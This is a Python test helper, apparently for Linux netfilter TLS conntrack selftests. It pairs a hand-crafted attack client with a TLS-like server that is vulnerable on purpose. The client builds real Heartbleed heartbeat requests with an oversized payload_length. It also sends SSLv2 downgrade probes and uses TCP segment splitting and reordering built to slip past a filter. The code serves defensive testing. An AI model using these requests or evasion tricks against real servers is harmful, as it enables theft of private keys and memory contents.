#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""Attack traffic and a deliberately vulnerable TLS-ish server for the
nf_conntrack_tls selftests (tls_attacks.sh, tls_knobs.sh).

Standard library only: importing scapy costs ~15 s under QEMU TCG, so the
raw-socket client below crafts its TCP segments by hand.

  tlsattack.py server [--secret S] [--log FILE] [--cert PEM] PORT[:MODE]...
      Serve every PORT (IPv4 and IPv6) until killed.  MODE "tls" (default):
      answers a ClientHello with a plaintext ServerHello (heartbeat
      extension, a suite the client offered), Certificate (--cert: that
      certificate, which scanners such as testssl.sh parse; else 300 random
      bytes) and ServerHelloDone; a ChangeCipherSpec plus
      "Finished" with its own; a plaintext heartbeat request by echoing
      payload_length bytes of its "memory" (the request, then the secret:
      OpenSSL 1.0.1); an encrypted heartbeat with a 16416-byte record that
      holds the secret; every application-data record with a 32-byte
      receipt record; an SSLv2 CLIENT-HELLO with an SSLv2 SERVER-HELLO
      (version 0x0002) or a TLS flight (compatible hello); any other SSLv2
      message with an SSLv2 ERROR.  MODE "cmk": answers an SSLv2
      CLIENT-HELLO with a CLIENT-MASTER-KEY (a client message).

  tlsattack.py client [options] HOST PORT STEP...
      Run the steps in order on one TCP connection:
        ch          send a ClientHello, wait for the ServerHelloDone
        ccs         send ChangeCipherSpec + encrypted Finished, wait for the
                    server's (both directions are then in the encrypted phase)
        rN          application-data record of N random bytes, wait for receipt
        aN          application-data record holding a run of N 'A', wait for receipt
        hbx         Heartbleed: plaintext heartbeat request, payload_length
                    --pl (default 0x4000) but 8 payload bytes; goal: the secret
        hbv         valid plaintext heartbeat (16 bytes payload + 16 padding);
                    goal: the exact echo
        hbe         encrypted-looking heartbeat (32 random bytes); goal: a
                    heartbeat record of >= 16416 bytes back
        v2sh        SSLv2 SERVER-HELLO sent by the client; goal: any answer
        v2ch:VER    SSLv2 CLIENT-HELLO offering VER (0x0002 SSLv2 only,
                    0x0301 compatible hello); goal: the server's answer
                    (--expect-cmk: a CLIENT-MASTER-KEY)
        p:FILE      pause until FILE exists (max 120 s): knobs change here
      --split      send heartbeat records one byte per TCP segment
      --raw        IPv4 only: hand-made TCP over a raw socket (the kernel's
                   RSTs for the port must be dropped by the caller); with
                   --reorder, the hbx record's second part is sent first,
                   then its first part, then the rest again in order, as
                   TCP retransmits
      --ack-resend after a hbx that got no answer: a bare ACK, then the
                   missing bytes twice (--raw only)

Scene-setting steps wait up to $TLSATTACK_TIMEOUT (20) seconds for the
server's answer; the steps that carry an attack (hbx hbv hbe aN v2sh v2ch)
wait at least $TLSATTACK_WAIT (6) seconds, and 4 times the slowest earlier
step, before they call the connection cut.

Exit status of the client: 0 every step reached its goal, 2 the connection
was cut (timeout, reset, EOF) at some step, 1 anything unexpected (e.g. a
heartbeat answer without the secret).  Lines starting with '# ' describe
what happened (bytes sent and received); the last one is
"# client: RESULT done|cut at step K (STEP)|error ...".
"""
import base64
import os
import random
import select
import socket
import struct
import sys
import threading
import time

# Steps that only set the scene wait up to TIMEOUT for the server's answer.
# A step that carries the attack waits at least WAIT seconds (and 4 times
# the slowest earlier step, for loaded TCG guests) before calling the
# connection cut: long enough for the retransmissions of both sides.
TIMEOUT = float(os.environ.get("TLSATTACK_TIMEOUT", "20"))
WAIT = float(os.environ.get("TLSATTACK_WAIT", "6"))
DEFAULT_SECRET = "PRIVATE-KEY-0123456789abcdef"
HB_PAYLOAD = b"HBPROBE!"            # the 8 bytes a Heartbleed request really carries


def log(msg):
    sys.stdout.write("# %s\n" % msg)
    sys.stdout.flush()


def hirandom(n):
    """Random bytes that all have the high bit set (no low-byte run)."""
    return bytes(b | 0x80 for b in os.urandom(n))


def low_run(data):
    best = cur = 0
    for b in data:
        cur = cur + 1 if b < 0x80 else 0
        best = max(best, cur)
    return best


# ---------------------------------------------------------------- records

def rec(ctype, body, ver=0x0303):
    return struct.pack(">BHH", ctype, ver, len(body)) + body


def v2rec(body):
    return struct.pack(">H", 0x8000 | len(body)) + body


def hs(mtype, body):
    return struct.pack(">B", mtype) + len(body).to_bytes(3, "big") + body


HB_EXT = struct.pack(">HHB", 15, 1, 1)   # heartbeat: peer_allowed_to_send


def client_hello(ver=0x0303):
    suites = struct.pack(">HHHH", 0xc02f, 0xc030, 0x009c, 0x002f)
    exts = HB_EXT
    body = (struct.pack(">H", ver) + os.urandom(32) + b"\x00" +
            struct.pack(">H", len(suites)) + suites + b"\x01\x00" +
            struct.pack(">H", len(exts)) + exts)
    return rec(22, hs(1, body), ver)


def server_flight(ver, suite=0xc02f, cert=None):
    exts = HB_EXT
    sh = (struct.pack(">H", ver) + os.urandom(32) + b"\x00" +
          struct.pack(">HB", suite, 0) + struct.pack(">H", len(exts)) + exts)
    cert = cert or os.urandom(300)
    certs = len(cert).to_bytes(3, "big") + cert
    return (rec(22, hs(2, sh), ver) +
            rec(22, hs(11, len(certs).to_bytes(3, "big") + certs), ver) +
            rec(22, hs(14, b""), ver))


CCS = rec(20, b"\x01")


def fake_finished(ver=0x0303):
    return rec(22, os.urandom(40), ver)


def pick_suite(hello):
    """The suite to answer a ClientHello body with: 0xc02f if offered, else
    the first real suite offered.  Scanners (testssl.sh) drop a ServerHello
    whose suite they did not offer, and then never try the heartbeat."""
    try:
        off = 38 + 1 + hello[38]
        n = struct.unpack(">H", hello[off:off + 2])[0]
        suites = struct.unpack(">%dH" % (n // 2), hello[off + 2:off + 2 + n // 2 * 2])
    except (IndexError, struct.error):
        return 0xc02f
    # not the signalling values (renegotiation info, fallback, GREASE) nor
    # TLS 1.3 suites: this server answers in TLS 1.2 at most
    real = [c for c in suites if c not in (0x00ff, 0x5600) and
            c & 0x0f0f != 0x0a0a and c >> 8 != 0x13]
    return 0xc02f if 0xc02f in real or not real else real[0]


def pem_to_der(path):
    """The first certificate of a PEM file, DER-encoded."""
    with open(path) as f:
        pem = f.read()
    b64 = pem.split("-----BEGIN CERTIFICATE-----")[1].split("-----END CERTIFICATE-----")[0]
    return base64.b64decode("".join(b64.split()))


def v2_client_hello(ver):
    specs = b"\x01\x00\x80\x07\x00\xc0"
    challenge = os.urandom(16)
    return v2rec(struct.pack(">BHHHH", 1, ver, len(specs), 0, len(challenge)) +
                 specs + challenge)


def v2_server_hello():
    cert = os.urandom(200)
    specs = b"\x01\x00\x80"
    conn_id = os.urandom(16)
    return v2rec(struct.pack(">BBBHHHH", 4, 0, 1, 0x0002, len(cert), len(specs),
                             len(conn_id)) + cert + specs + conn_id)


def v2_client_master_key():
    key = os.urandom(64)
    return v2rec(struct.pack(">B3sHHH", 2, b"\x01\x00\x80", 0, len(key), 0) + key)


def v2_error():
    return v2rec(b"\x00\x00\x01")


class Cut(Exception):
    """The connection stalled, was reset or closed."""


class Stream:
    """Buffered record reader over a transport with recv(n, deadline)."""

    def __init__(self, tr):
        self.tr = tr
        self.buf = b""
        self.received = 0

    def _fill(self, n, deadline):
        while len(self.buf) < n:
            data = self.tr.recv(65536, deadline)
            self.received += len(data)
            self.buf += data

    def read_record(self, timeout=None, sslv2=False):
        """(type, version, body); SSLv2 2-byte header records: ('v2', 2, body)."""
        timeout = timeout or TIMEOUT
        try:
            return self._read_record(timeout, sslv2)
        except Cut as e:
            if str(e) == "timeout":
                raise Cut("timeout: nothing for %.1f s" % timeout)
            raise

    def _read_record(self, timeout, sslv2):
        deadline = time.monotonic() + timeout
        self._fill(1, deadline)
        if sslv2 and self.buf[0] & 0x80:
            self._fill(2, deadline)
            n = struct.unpack(">H", self.buf[:2])[0] & 0x7fff
            self._fill(2 + n, deadline)
            body, self.buf = self.buf[2:2 + n], self.buf[2 + n:]
            return "v2", 2, body
        self._fill(5, deadline)
        ctype, ver, n = struct.unpack(">BHH", self.buf[:5])
        self._fill(5 + n, deadline)
        body, self.buf = self.buf[5:5 + n], self.buf[5 + n:]
        return ctype, ver, body


# ------------------------------------------------------------- transports

class SockTransport:
    def __init__(self, host, port):
        fam = socket.AF_INET6 if ":" in host else socket.AF_INET
        self.s = socket.socket(fam, socket.SOCK_STREAM)
        self.s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.s.settimeout(TIMEOUT)
        self.s.connect((host, port))
        self.sent = 0
        log("client: connected %s port %d from local port %d" %
            (host, port, self.s.getsockname()[1]))

    def send(self, data, split=False):
        if not split:
            self.s.sendall(data)
            self.sent += len(data)
            return
        before = self.data_segs_out()
        for i in range(len(data)):
            try:
                self.s.send(data[i:i + 1])
            except OSError as e:
                raise Cut("send: %s" % e)
            self.sent += 1
            time.sleep(0.05)
        log("client: sent %d bytes one per send(); the kernel sent %d data "
            "segments meanwhile (tcpi_data_segs_out)" %
            (len(data), self.data_segs_out() - before))

    def data_segs_out(self):
        info = self.s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 160)
        return struct.unpack_from("<I", info, 156)[0]

    def recv(self, n, deadline):
        left = deadline - time.monotonic()
        if left <= 0:
            raise Cut("timeout")
        self.s.settimeout(left)
        try:
            data = self.s.recv(n)
        except socket.timeout:
            raise Cut("timeout")
        except OSError as e:
            raise Cut(str(e))
        if not data:
            raise Cut("EOF")
        return data

    def close(self):
        self.s.close()


def csum(data):
    if len(data) % 2:
        data += b"\x00"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def seq_lt(a, b):
    return ((a - b) & 0xffffffff) > 0x7fffffff


class RawTransport:
    """A hand-made TCP client over an IPv4 raw socket: it decides what each
    segment holds and in which order segments leave."""

    FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10

    def __init__(self, host, port):
        self.dst = host
        self.dport = port
        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        probe.connect((host, port))
        self.src = probe.getsockname()[0]
        probe.close()
        self.sport = random.randint(40000, 60000)
        self.s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.iss = random.getrandbits(32)
        self.snd_nxt = self.iss
        self.snd_una = self.iss
        self.rcv_nxt = None
        self.inbuf = b""
        self.ooo = {}
        self.reset = False
        self.eof = False
        self.sent = 0
        self.segments = 0
        self._segment(self.SYN, self.iss, b"", opts=struct.pack(">BBH", 2, 4, 1460))
        deadline = time.monotonic() + TIMEOUT
        while self.rcv_nxt is None:
            if time.monotonic() > deadline:
                raise Cut("no SYN-ACK")
            self._pump(deadline)
        self.snd_nxt = self.snd_una
        self._segment(self.ACK, self.snd_nxt, b"")
        log("client: raw TCP connected %s port %d from local port %d" %
            (host, port, self.sport))

    def _segment(self, flags, seq, payload, opts=b""):
        off = (20 + len(opts)) // 4
        ack = self.rcv_nxt if self.rcv_nxt is not None else 0
        if self.rcv_nxt is not None:
            flags |= self.ACK
        hdr = struct.pack(">HHIIBBHHH", self.sport, self.dport, seq & 0xffffffff,
                          ack & 0xffffffff, off << 4, flags, 65535, 0, 0) + opts
        pseudo = struct.pack(">4s4sBBH", socket.inet_aton(self.src),
                             socket.inet_aton(self.dst), 0, 6,
                             len(hdr) + len(payload))
        c = csum(pseudo + hdr + payload)
        hdr = hdr[:16] + struct.pack(">H", c) + hdr[18:]
        self.s.sendto(hdr + payload, (self.dst, 0))
        if payload:
            self.segments += 1

    def _handle(self, pkt):
        ihl = (pkt[0] & 0x0f) * 4
        if len(pkt) < ihl + 20 or socket.inet_ntoa(pkt[12:16]) != self.dst:
            return
        sport, dport, seq, ack, off, flags = struct.unpack(">HHIIBB", pkt[ihl:ihl + 14])
        if sport != self.dport or dport != self.sport:
            return
        payload = pkt[ihl + (off >> 4) * 4:]
        if flags & self.RST:
            self.reset = True
            return
        if flags & self.SYN:
            if self.rcv_nxt is None and flags & self.ACK:
                self.rcv_nxt = (seq + 1) & 0xffffffff
                self.snd_una = ack
            return
        if self.rcv_nxt is None:
            return
        if flags & self.ACK and seq_lt(self.snd_una, ack):
            self.snd_una = ack
        if payload or flags & self.FIN:
            if seq == self.rcv_nxt:
                self.inbuf += payload
                self.rcv_nxt = (self.rcv_nxt + len(payload)) & 0xffffffff
                if flags & self.FIN:
                    self.eof = True
                    self.rcv_nxt = (self.rcv_nxt + 1) & 0xffffffff
                while self.rcv_nxt in self.ooo:
                    data = self.ooo.pop(self.rcv_nxt)
                    self.inbuf += data
                    self.rcv_nxt = (self.rcv_nxt + len(data)) & 0xffffffff
            elif seq_lt(self.rcv_nxt, seq):
                self.ooo[seq] = payload
            self._segment(self.ACK, self.snd_nxt, b"")

    def _pump(self, deadline):
        left = deadline - time.monotonic()
        if left <= 0:
            return
        r, _, _ = select.select([self.s], [], [], left)
        if r:
            self._handle(self.s.recv(65536))

    def send_at(self, off, data):
        """One segment holding data at offset off from snd_nxt (no wait)."""
        self._segment(self.PSH, self.snd_nxt + off, data)
        self.sent += len(data)

    def advance(self, n):
        self.snd_nxt = (self.snd_nxt + n) & 0xffffffff

    def wait_acked(self, timeout):
        deadline = time.monotonic() + timeout
        while seq_lt(self.snd_una, self.snd_nxt) and not self.reset:
            if time.monotonic() > deadline:
                return False
            self._pump(deadline)
        return not self.reset

    def send(self, data, split=False):
        """Reliable send: retransmits the unacknowledged tail like TCP."""
        base = self.snd_nxt
        self.send_at(0, data)
        self.advance(len(data))
        self.retransmit_until_acked(base, data, TIMEOUT)

    def retransmit_until_acked(self, base, data, timeout, quiet=False):
        deadline = time.monotonic() + timeout
        rto = 0.3
        while True:
            if self.wait_acked(min(rto, max(deadline - time.monotonic(), 0))):
                return
            if self.reset:
                raise Cut("reset")
            if time.monotonic() >= deadline:
                raise Cut("timeout: %d bytes never acknowledged" %
                          ((self.snd_nxt - self.snd_una) & 0xffffffff))
            off = (self.snd_una - base) & 0xffffffff
            if not quiet:
                log("client: retransmitting %d unacknowledged bytes in order" %
                    (len(data) - off))
            self._segment(self.PSH, self.snd_una, data[off:])
            self.sent += len(data) - off
            rto = min(rto * 2, 1.0)

    def recv(self, n, deadline):
        while not self.inbuf:
            if self.reset:
                raise Cut("reset")
            if self.eof:
                raise Cut("EOF")
            if time.monotonic() >= deadline:
                raise Cut("timeout")
            self._pump(deadline)
        data, self.inbuf = self.inbuf[:n], self.inbuf[n:]
        return data

    def close(self):
        try:        # the caller's filter may drop it: then the server times out
            self._segment(self.RST, self.snd_nxt, b"")
        except OSError:
            pass
        self.s.close()


# ----------------------------------------------------------------- client

def hb_record(valid, pl):
    if valid:
        payload = os.urandom(16)
        body = struct.pack(">BH", 1, len(payload)) + payload + os.urandom(16)
    else:
        payload = HB_PAYLOAD
        body = struct.pack(">BH", 1, pl) + payload
    return rec(24, body), payload


class Client:
    def __init__(self, args, tr):
        self.a = args
        self.tr = tr
        self.st = Stream(tr)
        self.secret = args["secret"].encode()
        self.timeout = TIMEOUT

    def expect(self, pred, what, sslv2=False):
        """Read records until pred(record) is true."""
        while True:
            r = self.st.read_record(self.timeout, sslv2=sslv2)
            if pred(r):
                return r
            if r[0] != 22:
                log("client: skipping record type %s len %d while waiting for %s" %
                    (r[0], len(r[2]), what))

    def step_ch(self):
        self.tr.send(client_hello())
        self.expect(lambda r: r[0] == 22 and r[2][:1] == b"\x0e", "ServerHelloDone")
        log("client: ClientHello sent, server flight up to ServerHelloDone received")

    def step_ccs(self):
        self.tr.send(CCS + fake_finished())
        self.expect(lambda r: r[0] == 20, "ChangeCipherSpec")
        self.expect(lambda r: r[0] == 22, "encrypted Finished")
        log("client: ChangeCipherSpec exchanged: both sides in the encrypted phase")

    def appdata(self, body, what):
        self.tr.send(rec(23, body))
        self.expect(lambda r: r[0] == 23, "receipt")
        log("client: %s (%d-byte record) acknowledged by the server" % (what, len(body)))

    def step_r(self, n):
        self.appdata(os.urandom(n), "random application data")

    def step_a(self, n):
        self.appdata(hirandom(16) + b"A" * n + hirandom(16),
                     "application data with a %d-byte ASCII run" % n)

    def read_heartbeat(self, want):
        """Type-24 bodies until want bytes (or a short final record)."""
        got = b""
        while len(got) < want:
            r = self.expect(lambda r: r[0] == 24, "heartbeat response")
            got += r[2]
            if len(r[2]) < 16384:
                break
        return got

    def step_hbx(self):
        pl = self.a["pl"]
        record, _ = hb_record(False, pl)
        if self.a["raw"] and self.a["reorder"]:
            self.reordered(record)
        else:
            self.tr.send(record, split=self.a["split"])
        log("client: Heartbleed request sent: %d-byte record, payload_length %d, "
            "%d payload bytes" % (len(record), pl, len(HB_PAYLOAD)))
        got = self.read_heartbeat(3 + pl + 16)
        pos = got.find(self.secret)
        log("client: heartbeat response: %d bytes, secret %s" %
            (len(got), "LEAKED at offset %d" % pos if pos >= 0 else "absent"))
        if pos < 0:
            raise RuntimeError("heartbeat answer without the secret")

    def reordered(self, record):
        """Second part first (beyond a hole), then the first part, then the
        missing bytes again in order, as a TCP sender does."""
        tr = self.tr
        base = tr.snd_nxt
        cut = 6                 # header + HeartbeatMessageType | payload_length...
        tr.send_at(cut, record[cut:])
        log("client: segment 2 sent first: bytes %d..%d of the heartbeat "
            "record (payload_length and payload), a hole before it" %
            (cut, len(record) - 1))
        tr.wait_acked(0.3)
        tr.send_at(0, record[:cut])
        log("client: segment 1 sent: bytes 0..%d (record header, type)" % (cut - 1))
        tr.advance(len(record))
        if tr.wait_acked(0.5):
            log("client: the server acknowledged the whole record after segment 1")
            return
        log("client: the server acknowledged %d of %d bytes" %
            ((tr.snd_una - base) & 0xffffffff, len(record)))
        try:
            tr.retransmit_until_acked(base, record, self.timeout)
        except Cut:
            if not self.a["ack_resend"]:
                raise
            # Resurrection: a bare ACK makes conntrack pick the flow up (the
            # helper sees no data, so the entry is confirmed), then the
            # missing bytes twice.
            log("client: no ACK: sending a bare ACK, then the missing bytes twice")
            tr._segment(tr.ACK, tr.snd_una, b"")
            time.sleep(0.2)
            off = (tr.snd_una - base) & 0xffffffff
            for _ in range(2):
                tr._segment(tr.PSH, tr.snd_una, record[off:])
                time.sleep(0.3)
            tr.retransmit_until_acked(base, record, self.timeout, quiet=True)
            log("client: the server acknowledged the heartbeat record after the pickup")

    def step_hbv(self):
        record, payload = hb_record(True, 0)
        self.tr.send(record, split=self.a["split"])
        log("client: valid heartbeat request sent: %d-byte record" % len(record))
        got = self.read_heartbeat(3 + len(payload) + 16)
        ok = got[:3 + len(payload)] == struct.pack(">BH", 2, len(payload)) + payload
        log("client: heartbeat response: %d bytes, %s" %
            (len(got), "echo correct" if ok else "echo WRONG"))
        if not ok:
            raise RuntimeError("wrong heartbeat echo")

    def step_hbe(self):
        self.tr.send(rec(24, os.urandom(32)))
        log("client: encrypted-looking heartbeat sent (32-byte record)")
        r = self.expect(lambda r: r[0] == 24, "heartbeat response")
        pos = r[2].find(self.secret)
        log("client: heartbeat response record of %d bytes received, secret %s" %
            (len(r[2]), "LEAKED" if pos >= 0 else "absent"))
        if len(r[2]) < 16416 or pos < 0:
            raise RuntimeError("short heartbeat answer")

    def step_v2sh(self):
        self.tr.send(v2_server_hello())
        r = self.st.read_record(self.timeout, sslv2=True)
        log("client: SSLv2 SERVER-HELLO sent by the client; the server answered "
            "(%s record, message type %d)" % (r[0], r[2][0] if r[2] else -1))

    def step_v2ch(self, ver):
        self.tr.send(v2_client_hello(ver))
        r = self.st.read_record(self.timeout, sslv2=True)
        if r[0] == "v2":
            kind = {2: "CLIENT-MASTER-KEY", 4: "SERVER-HELLO", 0: "ERROR"}.get(
                r[2][0], "type %d" % r[2][0])
            log("client: SSLv2 CLIENT-HELLO 0x%04x sent; received an SSLv2 %s "
                "(%d bytes)" % (ver, kind, len(r[2])))
        else:
            kind = "TLS"
            log("client: SSLv2 CLIENT-HELLO 0x%04x sent; received a TLS record "
                "type %d" % (ver, r[0]))
        if self.a["expect_cmk"] and kind != "CLIENT-MASTER-KEY":
            raise RuntimeError("expected a CLIENT-MASTER-KEY")

    def step_p(self, path):
        log("client: paused, waiting for %s" % path)
        deadline = time.monotonic() + 120
        while not os.path.exists(path):
            if time.monotonic() > deadline:
                raise RuntimeError("pause file never appeared")
            time.sleep(0.05)

    GOALS = ("hbx", "hbv", "hbe", "v2sh")

    def run(self, steps):
        slowest = 0.0
        for k, step in enumerate(steps, 1):
            goal = step in self.GOALS or step.startswith(("a", "v2ch"))
            self.timeout = max(WAIT, 4 * slowest) if goal else TIMEOUT
            t0 = time.monotonic()
            try:
                if step[0] in "ra" and step[1:].isdigit():
                    getattr(self, "step_" + step[0])(int(step[1:]))
                elif step.startswith("v2ch:"):
                    self.step_v2ch(int(step[5:], 0))
                elif step.startswith("p:"):
                    self.step_p(step[2:])
                else:
                    getattr(self, "step_" + step)()
            except Cut as e:
                log("client: sent %d bytes, received %d bytes" %
                    (self.tr.sent, self.st.received))
                log("client: RESULT cut at step %d (%s): %s" % (k, step, e))
                return 2
            except (RuntimeError, ValueError, AttributeError) as e:
                log("client: RESULT error at step %d (%s): %s" % (k, step, e))
                return 1
            if not goal and not step.startswith("p:"):
                slowest = max(slowest, time.monotonic() - t0)
        log("client: sent %d bytes, received %d bytes" %
            (self.tr.sent, self.st.received))
        log("client: RESULT done")
        return 0


# ----------------------------------------------------------------- server

class Server:
    def __init__(self, secret, logf, cert=None):
        self.secret = secret.encode()
        self.cert = pem_to_der(cert) if cert else None
        self.logf = logf
        self.lock = threading.Lock()

    def log(self, peer, msg):
        with self.lock:
            line = "# server: [%s]:%d %s\n" % (peer[0], peer[1], msg)
            self.logf.write(line)
            self.logf.flush()

    def memory(self, req_payload, n):
        """OpenSSL 1.0.1 copied payload_length bytes from the request's
        payload onwards: the request, then whatever lies next in memory."""
        heap = (b"\x00" * 13 + b"-----BEGIN PRIVATE KEY-----" + self.secret +
                b"-----END PRIVATE KEY-----\x00" + b"session-ticket-key:" +
                bytes(range(256)))
        mem = req_payload + heap
        while len(mem) < n:
            mem += heap
        return mem[:n]

    def handle(self, conn, peer, mode):
        st = Stream(SockTransport.__new__(SockTransport))
        st.tr.s = conn
        conn.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        ver = 0x0303
        ccs = False
        first = True
        try:
            while True:
                try:
                    t, rver, body = st.read_record(timeout=60, sslv2=first)
                except Cut as e:
                    self.log(peer, "connection ends: %s (received %d bytes)" %
                             (e, st.received))
                    return
                first = False
                if t == "v2":
                    mt = body[0] if body else -1
                    self.log(peer, "SSLv2 record, message type %d, %d bytes" %
                             (mt, len(body)))
                    if mt == 1 and len(body) >= 3:
                        cver = struct.unpack(">H", body[1:3])[0]
                        if mode == "cmk":
                            self.log(peer, "answering CLIENT-HELLO with a CLIENT-MASTER-KEY")
                            conn.sendall(v2_client_master_key())
                        elif cver == 0x0002:
                            self.log(peer, "answering CLIENT-HELLO 0x0002 with an SSLv2 SERVER-HELLO")
                            conn.sendall(v2_server_hello())
                        else:
                            self.log(peer, "compatible CLIENT-HELLO 0x%04x: answering in TLS" % cver)
                            ver = min(max(cver, 0x0301), 0x0303)
                            conn.sendall(server_flight(ver, cert=self.cert))
                    else:
                        self.log(peer, "answering with an SSLv2 ERROR")
                        conn.sendall(v2_error())
                elif t == 22 and not ccs and body[:1] == b"\x01":
                    ver = min(max(struct.unpack(">H", body[4:6])[0], 0x0301), 0x0303)
                    suite = pick_suite(body[4:])
                    self.log(peer, "ClientHello (version 0x%04x), sending the flight "
                             "(suite 0x%04x)" % (ver, suite))
                    conn.sendall(server_flight(ver, suite, self.cert))
                elif t == 20:
                    ccs = True
                    self.log(peer, "ChangeCipherSpec")
                elif t == 22 and ccs:
                    conn.sendall(CCS + fake_finished(ver))
                elif t == 24 and not ccs:
                    if len(body) < 3:
                        continue
                    htype, pl = struct.unpack(">BH", body[:3])
                    self.log(peer, "plaintext heartbeat type %d, record %d bytes, "
                             "payload_length %d" % (htype, len(body), pl))
                    if htype != 1:
                        continue
                    resp = struct.pack(">BH", 2, pl) + self.memory(body[3:], pl) + \
                        os.urandom(16)
                    leaks = resp.find(self.secret) >= 0
                    self.log(peer, "answering with %d bytes%s" %
                             (len(resp), ", SECRET LEAKED" if leaks else ""))
                    # like ssl3_write_bytes: records of at most 2^14 bytes
                    out = b""
                    for i in range(0, len(resp), 16384):
                        out += rec(24, resp[i:i + 16384], rver)
                    conn.sendall(out)
                elif t == 24:
                    resp = bytearray(os.urandom(16416))
                    resp[64:64 + len(self.secret)] = self.secret
                    self.log(peer, "encrypted heartbeat, %d-byte record: answering "
                             "with a %d-byte record, SECRET LEAKED" %
                             (len(body), len(resp)))
                    conn.sendall(rec(24, bytes(resp), rver))
                elif t == 23:
                    self.log(peer, "application data record, %d bytes, longest "
                             "run of bytes < 0x80: %d" % (len(body), low_run(body)))
                    conn.sendall(rec(23, os.urandom(32), ver))
                else:
                    self.log(peer, "record type %s, %d bytes" % (t, len(body)))
        except OSError as e:
            self.log(peer, "connection error: %s" % e)
        finally:
            conn.close()

    def listen(self, port, mode):
        ls = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        ls.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        ls.bind(("::", port))
        ls.listen(16)
        return ls

    def serve(self, specs):
        socks = {}
        for spec in specs:
            port, _, mode = spec.partition(":")
            socks[self.listen(int(port), mode or "tls")] = mode or "tls"
        while True:
            r, _, _ = select.select(list(socks), [], [])
            for ls in r:
                conn, addr = ls.accept()
                peer = (addr[0].replace("::ffff:", ""), addr[1])
                threading.Thread(target=self.handle, args=(conn, peer, socks[ls]),
                                 daemon=True).start()


# ------------------------------------------------------------------- main

def main(argv):
    if len(argv) < 2 or argv[1] not in ("server", "client"):
        sys.stderr.write(__doc__)
        return 1
    opts = {"secret": DEFAULT_SECRET, "log": None, "cert": None, "pl": 0x4000,
            "split": False, "raw": False, "reorder": False, "ack_resend": False,
            "expect_cmk": False}
    rest = []
    it = iter(argv[2:])
    for a in it:
        if a in ("--secret", "--log", "--pl", "--cert"):
            opts[a[2:]] = next(it)
        elif a.startswith("--") and a[2:].replace("-", "_") in opts:
            opts[a[2:].replace("-", "_")] = True
        else:
            rest.append(a)
    opts["pl"] = int(opts["pl"], 0) if isinstance(opts["pl"], str) else opts["pl"]
    if argv[1] == "server":
        logf = open(opts["log"], "a") if opts["log"] else sys.stdout
        Server(opts["secret"], logf, opts["cert"]).serve(rest)
        return 0
    if len(rest) < 3:
        sys.stderr.write(__doc__)
        return 1
    host, port, steps = rest[0], int(rest[1]), rest[2:]
    try:
        tr = RawTransport(host, port) if opts["raw"] else SockTransport(host, port)
    except (Cut, OSError) as e:
        log("client: RESULT error at step 0 (connect): %s" % e)
        return 1
    try:
        return Client(opts, tr).run(steps)
    finally:
        tr.close()


if __name__ == "__main__":
    sys.exit(main(sys.argv))
